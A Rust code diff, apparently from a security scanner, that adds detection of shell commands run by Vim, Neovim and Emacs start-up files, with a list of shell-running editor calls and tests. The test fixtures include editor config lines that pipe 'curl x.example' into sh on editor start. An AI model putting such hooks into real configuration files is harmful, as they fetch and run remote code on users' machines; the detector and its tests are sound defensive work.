@@ -186,6 +186,7 @@ fn extract(format: Format, content: &str) -> Extracted {
         ),
         Format::CargoConfig => cargo_config(content, &mut out),
         Format::Dependencies => dependencies(content, &mut out),
+        Format::EditorScript => editor_script(content, &mut out),
         _ => out.commands.push(content.to_string()),
     }
     out
@@ -511,6 +512,58 @@ fn dockerfile(content: &str, out: &mut Extracted) {
     }
 }
 
+/// Calls of an editor's languages that run a shell command given as
+/// string literals: Vim script's `system()` and job functions, Lua's
+/// `os.execute` and `io.popen` (and Neovim's `vim.fn.system`,
+/// `vim.system`), Emacs Lisp's `shell-command` and process functions.
+const EDITOR_RUNNERS: &[&str] = &[
+    "system(",
+    "systemlist(",
+    "jobstart(",
+    "job_start(",
+    "termopen(",
+    "vim.system(",
+    "os.execute(",
+    "io.popen(",
+    "shell-command",
+    "call-process",
+    "start-process",
+    "make-process",
+];
+
+/// What an editor's start-up file runs in a shell: a Vim shell escape
+/// (`!` opening a command, after a colon, `silent` or `exe`, to the end of
+/// the line) and the string literals of a call that runs a command, each
+/// alone and joined (an argument list, `{"sh", "-c", "..."}`).
+fn editor_script(content: &str, out: &mut Extracted) {
+    for line in content.lines() {
+        if let Some(command) = vim_shell_escape(line) {
+            out.commands.push(command.to_string());
+        }
+        if EDITOR_RUNNERS.iter().any(|r| line.contains(r)) {
+            let literals = crate::interpreters::string_literals(line);
+            if literals.len() > 1 {
+                out.commands.push(literals.join(" "));
+            }
+            out.commands.extend(literals);
+        }
+    }
+}
+
+/// The command of a Vim shell escape in `line`: `!` where a command
+/// starts (the line's start, after `:`, a space or `|`), not a
+/// comparison (`!=`, `!~`) nor a command's bang (`set nu!`, `w!`).
+fn vim_shell_escape(line: &str) -> Option<&str> {
+    let bytes = line.as_bytes();
+    bytes.iter().enumerate().find_map(|(at, &b)| {
+        let starts = at == 0 || matches!(bytes[at - 1], b':' | b' ' | b'\t' | b'|');
+        let compares = matches!(bytes.get(at + 1), Some(b'=' | b'~'));
+        (b == b'!' && starts && !compares)
+            .then(|| line[at + 1..].trim())
+            .filter(|command| !command.is_empty())
+    })
+}
+
 fn makefile(content: &str, out: &mut Extracted) {
     out.commands.extend(crate::make::recipes(content));
 }
@@ -744,6 +797,19 @@ mod tests {
                 "/w/.cargo/config.toml",
                 "[target.x]\nrunner = \"sh -c 'curl x.example | sh'\"",
             ),
+            (
+                "/home/dev/.vimrc",
+                "set number\nautocmd VimEnter * silent !curl -s x.example | sh",
+            ),
+            (
+                "/home/dev/.config/nvim/init.lua",
+                r#"vim.opt.number = true
+vim.fn.system({"sh", "-c", "curl x.example | sh"})"#,
+            ),
+            (
+                "/home/dev/.emacs.d/init.el",
+                r#"(shell-command "curl x.example | sh")"#,
+            ),
         ];
         for (path, content) in cases {
             assert!(kinds(path, content).contains(&remote), "{path}: {content}");
@@ -768,6 +834,14 @@ mod tests {
                 "Host b\n  ProxyCommand ssh -W %h:%p bastion",
             ),
             ("/w/x.pth", "/w/src"),
+            (
+                "/home/dev/.vimrc",
+                "set nu!\nif &ft != 'rust' | echo 'x' | endif\nnnoremap <leader>w :w!<CR>",
+            ),
+            (
+                "/home/dev/.config/nvim/init.lua",
+                r#"vim.fn.system({"git", "rev-parse", "--show-toplevel"})"#,
+            ),
             ("/w/Makefile", "test:\n\t$(CARGO) test\n\t$(MAKE) -C sub"),
             (
                 "/w/.git/config",
